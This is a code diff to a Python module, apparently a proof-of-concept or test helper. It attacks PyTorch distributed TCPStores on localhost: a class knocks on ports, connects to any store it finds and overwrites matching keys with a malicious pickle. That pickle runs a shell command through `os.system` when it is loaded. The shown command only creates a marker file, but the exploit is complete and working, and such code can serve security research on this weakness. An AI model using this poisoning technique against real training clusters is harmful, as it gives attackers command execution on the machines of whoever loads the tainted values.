@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import os
 import pickle
-import time
+from contextlib import suppress
+from datetime import timedelta
 from pathlib import Path
 
 import torch.distributed as dist
@@ -20,14 +21,29 @@ class Runs:
         return os.system, (f"touch {self.harm}",)
 
 
-def poison(port: int, word: str, harm: Path, until_s: float) -> list[str]:
-    """Write a pickle that runs a command to every key of a store that has this word in it; the keys that were there."""
-    store = dist.TCPStore("127.0.0.1", port, is_master=False)
-    deadline = time.monotonic() + until_s
-    while time.monotonic() < deadline:
-        if found := [key for key in store.list_keys() if word in key]:
-            for key in found:
-                store.set(key, pickle.dumps(Runs(harm)))
-            return found
-        time.sleep(0.002)
-    return []
+class Stranger:
+    """Writes a pickle that runs a command to every key with this word in it, of all stores that it finds."""
+
+    def __init__(self, word: str, harm: Path) -> None:
+        self._word, self._harm = word, harm
+        self._stores: list[dist.TCPStore] = []
+        self.poisoned: list[str] = []
+
+    def knock(self, port: int) -> None:
+        """Try whether a store is there."""
+        with suppress(RuntimeError):  # torch's own errors, too
+            store = dist.TCPStore(
+                "127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2)
+            )
+            store.list_keys()
+            self._stores.append(store)
+
+    def poison(self) -> None:
+        """Write to what is there now."""
+        for store in list(self._stores):
+            try:
+                for key in [key for key in store.list_keys() if self._word in key]:
+                    store.set(key, pickle.dumps(Runs(self._harm)))
+                    self.poisoned.append(key)
+            except RuntimeError:  # it ended
+                self._stores.remove(store)
